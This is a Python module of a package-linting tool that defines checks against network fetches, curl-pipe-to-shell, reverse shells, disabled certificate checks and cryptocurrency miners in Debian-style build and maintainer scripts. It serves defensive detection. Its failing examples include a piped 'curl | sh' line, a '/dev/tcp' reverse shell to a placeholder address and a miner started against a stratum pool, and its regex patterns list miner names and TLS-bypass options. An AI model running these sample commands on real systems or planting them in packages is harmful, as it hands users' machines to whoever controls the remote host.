"""Checks of what brings something from the network while a package is built, installed or used (Debian Policy 4.9)."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from recipes_app.formats.findings import Severity

from ..base import About, Family, Place, check, gettext_noop
from ..examples import RULES
from ..facts import fetches, installs_packages, is_reverse_shell, runs_what_is_fetched, sources_of
from ..languages import FETCH
from ..recipe import CheckedRecipe
from ..scripting.shell_command import Command
from ..scripts import MAINTAINER, SERVICE, commands_of, scripts_of
from ..scripts import RULES as BUILD

_POSTINST = "#!/bin/sh\nset -e\n#DEBHELPER#\n"
_DECLARE = gettext_noop(
    "declare the file in debian/dur with a Fetch paragraph, its URL and SHA256: the client fetches it before the build"
)
_MINERS = re.compile(
    r"stratum\+(?:tcp|ssl|tls)://|\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|t-rex-miner|lolminer|xmr-stak|cgminer)\b",
    re.IGNORECASE,
)
_UNSAFE = re.compile(
    r"\A(?:--no-check-certificate|--insecure|http\.sslVerify=(?:false|0)|GIT_SSL_NO_VERIFY=.+|NODE_TLS_REJECT_UNAUTHORIZED=0|--trusted-host"
    r"|PYTHONHTTPSVERIFY=0|--no-verify-ssl|strict-ssl=false|--allow-unauthenticated|--check-certificate=(?:false|off))\Z"
)
_ADDED_PIPE = re.compile(
    r"\+.*\b(?:curl|wget)\b[^|;#]{0,300}\|[^|;#]{0,200}\b(?:ba|da|z)?sh\b|\+.*\b(?:ba|da|z)?sh\s+(?:-c\s+\S{0,3}|<)\(\s*(?:curl|wget)\b"
)

Fits = Callable[[Command], bool]


def _places(recipe: CheckedRecipe, words: str, fits: Fits, *roles: str) -> Iterator[Place]:
    """Yield the place of each command that fits, but what DUR702 tells already."""
    told = {id(source) for _, command in commands_of(recipe) if runs_what_is_fetched(command) for source in sources_of(command)}
    for script, command in commands_of(recipe, *roles):
        if fits(command) and id(command) not in told and not runs_what_is_fetched(command):
            yield Place(script.path, command.line, f"{words}: {command}")


def example_at_build(line: str) -> dict[str, str]:
    """Return a recipe whose build runs `line`."""
    return {"debian/rules": f"{RULES}\noverride_dh_auto_build:\n\t{line}\n"}


def example_at_installation(line: str) -> dict[str, str]:
    """Return a recipe whose postinst runs `line`."""
    return {"debian/postinst": _POSTINST.replace("#DEBHELPER#", f"{line}\n#DEBHELPER#")}


@check(
    About(
        id="DUR701",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("The build fetches from the network"),
        explanation=gettext_noop(
            "Debian Policy 4.9 forbids a build to use the network. What it fetches can be another thing tomorrow, nobody has "
            "reviewed it, and no checksum stands for it. debian/rules and the scripts that it calls are read as make and the "
            "shell read them; targets that no build reaches, such as get-orig-source, do not count."
        ),
        remedy=_DECLARE,
        failing=example_at_build("wget -q https://example.org/data.bin"),
        mending=example_at_build("install -D -m644 data.bin debian/hello-dur/usr/share/hello-dur/data.bin"),
    )
)
def build_fetches(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for curl, wget and their like in what a build runs."""
    return _places(recipe, "the build fetches from the network", lambda command: fetches(command) == "program", BUILD)


@check(
    About(
        id="DUR702",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("Something from the network is run unseen"),
        explanation=gettext_noop(
            'A shell or an interpreter runs what comes from the network: curl | sh, sh -c "$(wget …)", bash <(curl …), or a file '
            "that was fetched two lines before. Who controls that address controls every machine that builds or installs the "
            "package, from that moment and without a trace here."
        ),
        remedy=gettext_noop("remove it; what the package needs belongs into the package, from a source that debian/dur pins"),
        failing=example_at_installation("curl -s https://example.org/setup | sh"),
        mending=example_at_installation("update-mime-database /usr/share/mime"),
    )
)
def runs_the_network(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for interpreters that are fed by a program that fetches, in every script."""
    for script in scripts_of(recipe):
        kept: set[str] = set()
        for command in script.commands:
            words = {word for word in command.words if word in kept}
            if runs_what_is_fetched(command) or (words and (command.is_shell or command.words[0] in kept)):
                yield Place(script.path, command.line, f"what comes from the network is run: {command}")
            if fetches(command) == "program":
                kept.update(
                    word for word in (*command.arguments, *command.writes) if word.startswith(("/", "./")) and len(word) > 2
                )


@check(
    About(
        id="DUR703",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("A maintainer script fetches from the network"),
        explanation=gettext_noop(
            "Maintainer scripts run as root on the machine of everybody who installs the package. What they fetch is neither "
            "in the package nor under a checksum of it, and an installation without network fails. The review of this recipe "
            "says nothing about it."
        ),
        remedy=_DECLARE,
        failing=example_at_installation("wget -O /var/lib/hello-dur/data https://example.org/data"),
        mending=example_at_installation("mkdir -p /var/lib/hello-dur"),
    )
)
def installation_fetches(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for curl, wget and their like in maintainer scripts."""
    return _places(recipe, "installation fetches from the network", lambda command: fetches(command) == "program", MAINTAINER)


@check(
    About(
        id="DUR704",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("Packages of another package manager are fetched"),
        explanation=gettext_noop(
            "pip, npm, cargo, gem and their like fetch whatever their registry has today, with everything that it depends on, "
            "and many of them run code of it at once: this is how most attacks on registries reach machines. Neither a build "
            "nor an installation of a Debian package may do it."
        ),
        remedy=gettext_noop(
            "depend on Debian's packages of them, or declare each file in debian/dur and install with --no-index or --offline"
        ),
        failing=example_at_build("pip install requests"),
        mending=example_at_build("pip install --no-index --no-deps --find-links=. requests"),
    )
)
def fetches_packages(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for the installing commands of package managers of languages and containers."""
    return _places(recipe, "a package manager fetches", installs_packages, BUILD, MAINTAINER)


@check(
    About(
        id="DUR705",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("A repository is cloned"),
        explanation=gettext_noop(
            "A branch of a repository is whatever its owner pushed last. In 2025 packages of another distribution's user "
            "repository brought a remote access trojan as a second source repository that was cloned beside a browser. A "
            "source has to be pinned, and a build must not use the network."
        ),
        remedy=gettext_noop("declare the source in debian/dur with Fetch, its commit or its checksum"),
        failing=example_at_build("git clone https://example.org/patches.git"),
        mending=example_at_build("git --version"),
    )
)
def clones(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for git, hg, svn and bzr with a command that talks to a server."""
    return _places(recipe, "a repository is fetched", lambda command: fetches(command) == "repository", BUILD, MAINTAINER)


@check(
    About(
        id="DUR706",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("Python, Perl or another language's code fetches from the network"),
        explanation=gettext_noop(
            "The code that debian/rules or a maintainer script hands to an interpreter, or a script that it calls, uses a "
            "library for the network. It is the same as curl, written in another language. The libraries are known by their "
            "names; what hides those names is looked for by the checks DUR721 to DUR739."
        ),
        remedy=_DECLARE,
        failing=example_at_build('python3 -c \'import urllib.request as u; u.urlretrieve("https://example.org/x", "x")\''),
        mending=example_at_build("python3 -c 'print(1)'"),
    )
)
def code_fetches(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for calls of libraries for the network in code."""
    return _places(
        recipe, "code fetches from the network", lambda command: command.program.endswith(f":{FETCH}"), BUILD, MAINTAINER
    )


@check(
    About(
        id="DUR707",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("A connection to a shell is opened"),
        explanation=gettext_noop(
            "A shell whose input and output are a network connection gives the machine to whoever is at the other end. No "
            "package needs bash's /dev/tcp, nc -e or a socket that is copied onto a shell's descriptors."
        ),
        remedy=gettext_noop("remove it"),
        failing=example_at_installation("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        mending=example_at_installation("true"),
    )
)
def reverse_shell(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for /dev/tcp, nc -e, socat EXEC and sockets with a shell, in every script."""
    for script, command in commands_of(recipe):
        if is_reverse_shell(command):
            yield Place(script.path, command.line, f"a shell is connected to the network: {command}")


@check(
    About(
        id="DUR708",
        severity=Severity.WARNING,
        family=Family.NETWORK,
        title=gettext_noop("The check of certificates or signatures is switched off"),
        explanation=gettext_noop(
            "Options such as --no-check-certificate, http.sslVerify=false or --allow-unauthenticated make anybody on the way "
            "able to hand out another file. They are looked for in all scripts, as options and as variables of the "
            "environment."
        ),
        remedy=gettext_noop("remove the option; where a server's certificate is broken, name another mirror in debian/dur"),
        failing=example_at_build("git config http.sslVerify=false"),
        mending=example_at_build("git config user.name builder"),
    )
)
def unsafe_transport(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for options that switch checks off."""
    for script, command in commands_of(recipe):
        if (found := [word for word in command.words if _UNSAFE.match(word)]) or (
            command.program == "curl" and command.has_option("-k")
        ):
            yield Place(script.path, command.line, f"{found[0] if found else '-k'} switches a check off: {command}")


@check(
    About(
        id="DUR709",
        severity=Severity.WARNING,
        family=Family.NETWORK,
        title=gettext_noop("A service or a timed job fetches from the network"),
        explanation=gettext_noop(
            "A unit, a cron file or an init script of the package fetches something again and again on the user's machine. "
            "Many services have a reason to; a reviewer should know which, from where, and what is done with it."
        ),
        remedy=gettext_noop("say in the package's description what is fetched, and let the administrator switch it off"),
        failing={
            "debian/systemd/hello.service": "[Service]\nExecStart=/usr/bin/wget -q -O /var/lib/hello-dur/list https://example.org/list\n"
        },
        mending={"debian/systemd/hello.service": "[Service]\nExecStart=/usr/bin/hello --daemon\n"},
    )
)
def service_fetches(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for programs that fetch in units, cron files and init scripts."""
    return _places(recipe, "a service fetches from the network", lambda command: bool(fetches(command)), SERVICE)


@check(
    About(
        id="DUR710",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("A patch adds a line that runs something from the network"),
        explanation=gettext_noop(
            "A patch puts curl | sh or its like into upstream's source, where it runs at the build or on users' machines. "
            "Only this shape is looked for in patches: what else a patch does has to be read by a person."
        ),
        remedy=gettext_noop("remove it from the patch"),
        failing={
            "debian/patches/series": "setup.patch\n",
            "debian/patches/setup.patch": (
                "Description: set things up\nAuthor: Ada Lovelace <ada@example.org>\n"
                "Forwarded: not-needed\nLast-Update: 2026-02-02\n"
                "--- a/configure\n+++ b/configure\n@@ -1 +1,2 @@\n #!/bin/sh\n+curl -s https://example.org/x | sh\n"
            ),
        },
        mending={
            "debian/patches/series": "setup.patch\n",
            "debian/patches/setup.patch": (
                "Description: set things up\nAuthor: Ada Lovelace <ada@example.org>\n"
                "Forwarded: not-needed\nLast-Update: 2026-02-02\n"
                "--- a/configure\n+++ b/configure\n@@ -1 +1,2 @@\n #!/bin/sh\n+set -e\n"
            ),
        },
    )
)
def patch_runs_the_network(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for a fetch into a shell among the lines that patches add."""
    for path, text in recipe.texts():
        if path.startswith("debian/patches/") and ("curl" in text or "wget" in text):
            for number, line in enumerate(text.split("\n"), start=1):
                if line.startswith("+") and _ADDED_PIPE.match(line[:2_000]):
                    yield Place(path, number, f"the patch adds {line[1:101].strip()!r}")


@check(
    About(
        id="DUR711",
        severity=Severity.ERROR,
        family=Family.NETWORK,
        title=gettext_noop("A miner of a currency is started or set up"),
        explanation=gettext_noop(
            "A script names a program that mines a currency, or the address of a mining pool. Mining on machines of people "
            "who did not ask for it is the most frequent aim of malicious packages. A package of a miner need not start it."
        ),
        remedy=gettext_noop("remove it from the scripts; a program that mines starts when its user starts it"),
        failing=example_at_installation("/usr/lib/hello-dur/worker -o stratum+tcp://pool.example.org:3333"),
        mending=example_at_installation("/usr/lib/hello-dur/worker --version"),
    )
)
def mines(recipe: CheckedRecipe) -> Iterator[Place]:
    """Look for names of miners and pools' addresses in the commands of maintainer scripts and services."""
    for script, command in commands_of(recipe, MAINTAINER, SERVICE):
        if _MINERS.search(f"{command} {command.document or ''}"[:5_000]):
            yield Place(script.path, command.line, f"mining: {command}")
